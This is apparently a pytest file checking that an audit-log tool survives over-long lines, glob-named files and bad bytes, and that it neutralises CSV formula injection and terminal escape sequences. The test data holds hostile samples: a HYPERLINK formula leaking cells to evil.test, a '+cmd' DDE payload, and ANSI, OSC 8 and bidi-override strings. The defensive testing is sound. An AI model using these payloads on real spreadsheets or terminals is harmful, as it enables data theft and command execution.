"""What hostile values and damaged files do to the auditors' tools.

Every tool reads every record it can, reports what it cannot and goes on;
nothing from the log reaches a spreadsheet as a formula or a terminal as a
control sequence; filters mean what they say.  Logs are written by the real
writer (conftest.write_log); damage is done to the real files, `.gz` too.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from ..conftest import access, rotate, write_log

# -- a line longer than the tools read (an older writer's policy_rejected) -----------

HEAD, TAIL = b'{"event":"policy_rejected","ts":"2026-11-02T09:00:30.000Z","problems":["', b'"]}'
LONG = len(HEAD) + (20 << 20) + len(TAIL)  # over the tools' 16 MiB


def with_long_line(path: Path, after: int = 1) -> Path:
    """Put a 20 MB line (an older writer's record: no seq/prev) after line `after` of `path`."""
    lines = path.read_bytes().splitlines(keepends=True)
    long_line = HEAD + b"x" * (20 << 20) + TAIL + b"\n"
    path.write_bytes(b"".join(lines[:after]) + long_line + b"".join(lines[after:]))
    return path


def gzipped(path: Path) -> Path:
    target = path.with_name(path.name + ".gz")
    with open(path, "rb") as src, gzip.open(target, "wb", compresslevel=1) as dst:
        shutil.copyfileobj(src, dst)
    path.unlink()
    return target


RECORDS = [
    access("r1", "2026-11-02T09:00:00.000Z", "alice", "facebook"),
    access("r2", "2026-11-02T09:01:00.000Z", "bob", "facebook", "block"),
    access("r3", "2026-11-02T09:02:00.000Z", "carol", "linkedin"),
]
POLICY = "version: 1\nsites: {facebook: {domains: [facebook.com]}, linkedin: {domains: [linkedin.com]}}\n" \
         "roles: {everyone: {members: [all], access: {'*': full}}}\nunlisted: allow\n"  # fmt: skip

# tool -> (arguments after the log, what shows that it read r1..r3)
TOOLS = {
    "audit query": (("audit", "query", "{log}", "--format", "jsonl"), lambda out: ["r1", "r2", "r3"] == [
        json.loads(line)["request_id"] for line in out.splitlines()]),
    "audit sql": (("audit", "sql", "SELECT count(*) AS n FROM audit WHERE event = 'access'", "{log}", "--format", "csv"),
                  lambda out: out.splitlines() == ["n", "3"]),
    "audit report": (("audit", "report", "{log}", "--since", "2026-11-01", "--until", "2026-11-03"),
                     lambda out: out.splitlines()[1].startswith("3 requests: 2 allowed, 1 blocked")),
    "replay": (("replay", "{policy}", "{log}", "--json"), lambda out: json.loads(out)["records"] == 3),
    "audit index": (("audit", "index", "{log}"), lambda out: out.startswith("1 of 1 file(s) cached")),
}  # fmt: skip
FILES = {"a plain live file": False, "a rotated .gz file": True}


@pytest.mark.parametrize("compressed", FILES.values(), ids=FILES.keys())
@pytest.mark.parametrize("args, read_all", TOOLS.values(), ids=TOOLS.keys())
def test_a_line_longer_than_the_tools_read_is_reported_and_the_rest_read(cli, tmp_path, args, read_all, compressed):
    log = with_long_line(write_log(tmp_path / "audit.jsonl", RECORDS))
    if compressed:
        log = gzipped(log)
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    status, out, err = cli(*(a.format(log=log, policy=policy) for a in args))
    assert status in (0, 1), err  # replay: 1 = decisions change; never 2 (error)
    assert read_all(out), out
    assert f"warning: {log}:2: a line of {LONG:,} bytes is longer than the audit tools read" in err


def test_a_long_line_in_one_file_of_a_glob_spoils_none_of_the_others(cli, tmp_path):
    path = tmp_path / "audit.jsonl"
    write_log(path, RECORDS[:1])
    rotate(path)
    write_log(path, RECORDS[1:2])
    with_long_line(path, after=1)
    rotate(path)  # .2.gz holds r1; .1 holds r2 and the long line
    write_log(path, RECORDS[2:])
    status, out, err = cli("audit", "query", str(tmp_path / "audit.jsonl*"), "--format", "jsonl")
    assert status == 0, err
    assert [json.loads(line)["request_id"] for line in out.splitlines()] == ["r1", "r2", "r3"]
    assert err.count("is longer than the audit tools read") == 1
    # The rotated file is cached without the long line; every query from the cache says so again.
    status, again, err_again = cli("audit", "query", str(tmp_path / "audit.jsonl*"), "--format", "jsonl")
    assert (status, again, err_again) == (0, out, err)


# -- file names -----------------------------------------------------------------------


def test_a_file_named_with_glob_characters_is_that_file(cli, tmp_path):
    write_log(tmp_path / "audit1.jsonl", RECORDS[:1])
    write_log(tmp_path / "audit[1].jsonl", RECORDS[1:2])
    write_log(tmp_path / "audit*.jsonl", RECORDS[2:])
    for name, expected in [("audit[1].jsonl", ["r2"]), ("audit*.jsonl", ["r3"])]:
        for args in (("audit", "query", tmp_path / name, "--format", "jsonl"),
                     ("audit", "query", tmp_path / name, "--format", "jsonl", "--no-cache")):  # fmt: skip
            status, out, err = cli(*args)
            assert (status, [json.loads(x)["request_id"] for x in out.splitlines()]) == (0, expected), (name, err)
    status, out, _ = cli("audit", "query", str(tmp_path / "audit?.jsonl"), "--format", "jsonl")
    assert [json.loads(x)["request_id"] for x in out.splitlines()] == ["r1", "r3"]  # a glob is still a glob


# -- records with bytes that were not UTF-8 ------------------------------------------


def test_records_with_undecodable_bytes_are_seen_by_every_tool(cli, tmp_path):
    log = write_log(tmp_path / "audit.jsonl", [
        access("r1", "2026-11-02T09:00:00.000Z", "zoe", "linkedin", "block", method="P\udcffST"),
        access("r2", "2026-11-02T09:01:00.000Z", "zoe", "linkedin", "block", path="/feed/\udcff\udcfe"),
        access("r3", "2026-11-02T09:02:00.000Z", "zoe", "linkedin"),
    ])  # fmt: skip
    status, out, _ = cli("audit", "query", log, "--decision", "block", "--format", "jsonl")
    got = [(r["request_id"], r["method"], r["path"], r["escaped"]) for r in map(json.loads, out.splitlines())]
    assert got == [("r1", "P\\xffST", "/", ["method"]), ("r2", "GET", "/feed/\\xff\\xfe", ["path"])]
    status, out, _ = cli("audit", "sql", "SELECT count(*) AS n FROM audit", log, "--format", "csv")
    assert out.splitlines() == ["n", "3"]
    status, out, _ = cli("audit", "verify", log)
    assert status == 0 and out.splitlines()[-1] == "OK: 3 records, chain intact (seq 1..3, 1 file(s))"


# -- filters mean what they say --------------------------------------------------------

HOSTS = ["www.my_site.test", "www.myxsite.test", "my_site.test", "evil-my_site.test", "a.b_c.test"]


@pytest.mark.parametrize(
    "host, matches",
    [
        ("my_site.test", ["www.my_site.test", "my_site.test"]),
        ("MY_SITE.test.", ["www.my_site.test", "my_site.test"]),
        ("b_c.test", ["a.b_c.test"]),
        ("_site.test", []),
        ("%.test", []),
    ],
    ids=[
        "an underscore is an underscore, not any character",
        "the host is normalized first",
        "a subdomain with an underscore",
        "a host is matched from a label boundary",
        "a percent sign is no wildcard",
    ],
)
def test_host_filter_matches_the_host_and_its_subdomains_literally(cli, tmp_path, host, matches):
    log = write_log(tmp_path / "audit.jsonl", [
        access(h, f"2026-11-02T09:0{i}:00.000Z", "alice", None, host=h) for i, h in enumerate(HOSTS)
    ])  # fmt: skip
    status, out, err = cli("audit", "query", log, "--host", host, "--format", "jsonl")
    assert status == 0, err
    assert [json.loads(line)["host"] for line in out.splitlines()] == matches


# -- nothing reaches a spreadsheet or a terminal raw ----------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&D2&E2,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1",
]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(cli, tmp_path):
    log = write_log(tmp_path / "audit.jsonl", [
        access(f"r{i}", f"2026-11-02T09:0{i}:00.000Z", "mallory", "x", method=formula, path="/" + formula)
        for i, formula in enumerate(FORMULAS)
    ])  # fmt: skip
    status, out, _ = cli("audit", "query", log, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert status == 0
    assert [r["method"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["path"] for r in rows] == ["/" + f for f in FORMULAS]  # starts with /: no formula
    assert rows[0]["bytes_in"] == "100" and rows[0]["status"] == "200"  # numbers stay numbers
    status, out, _ = cli("audit", "sql", "SELECT method, -1 AS n FROM audit ORDER BY ts", log, "--format", "csv")
    assert out.splitlines()[1:3] == ['"\'=HYPERLINK(""http://evil.test/?leak=""&D2&E2,""Details"")",-1',
                                     "'+cmd|' /C calc'!A0,-1"]  # fmt: skip
    status, out, _ = cli("audit", "query", log, "--format", "jsonl")  # JSON stays exact
    assert [json.loads(line)["method"] for line in out.splitlines()] == FORMULAS


TERMINAL = {
    "clear screen": ("/\x1b[2J", "/\\x1b[2J"),
    "colour": ("/\x1b[31mred\x1b[0m", "/\\x1b[31mred\\x1b[0m"),
    "OSC 8 link": ("/\x1b]8;;http://evil.test/\x07click\x1b]8;;\x07", "/\\x1b]8;;http://evil.test/\\x07click\\x1b]8;;\\x07"),
    "C1 CSI": ("/\x9b2J", "/\\x9b2J"),
    "carriage return": ("/ok\rforged", "/ok\\rforged"),
    "bidi override": ("/\u202egpj.exe", "/\\u202egpj.exe"),
}  # fmt: skip
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_text_output_shows_control_characters_as_escapes_and_json_keeps_them(cli, tmp_path):
    log = write_log(tmp_path / "audit.jsonl", [
        access(f"r{i}", f"2026-11-02T09:0{i}:00.000Z", "eve\x1b[8m", "x", "block", path=raw)
        for i, (raw, _) in enumerate(TERMINAL.values())
    ])  # fmt: skip
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.replace("access: {'*': full}", "access: {}"))
    runs = {
        "query table": ("audit", "query", log),
        "sql table": ("audit", "sql", 'SELECT path, "user" FROM audit', log),
        "report": ("audit", "report", log, "--since", "2026-11-01", "--until", "2026-11-03"),
        "replay": ("replay", policy, log),
    }
    for name, args in runs.items():
        status, out, err = cli(*args)
        assert status in (0, 1), (name, err)
        assert not RAW.search(out) and not RAW.search(err), (name, out)
        assert "eve\\x1b[8m" in out, name
        if name.endswith("table"):
            for _, shown in TERMINAL.values():
                assert shown in out, (name, shown)
    html = tmp_path / "r.html"
    cli("audit", "report", log, "--since", "2026-11-01", "--until", "2026-11-03", "--html", html)
    page = html.read_text()
    assert not RAW.search(page) and "eve\\x1b[8m" in page
    status, out, _ = cli("audit", "query", log, "--format", "json")
    assert [r["path"] for r in json.loads(out)] == [raw for raw, _ in TERMINAL.values()]
    assert not RAW.search(out)  # the same JSON, with \u escapes
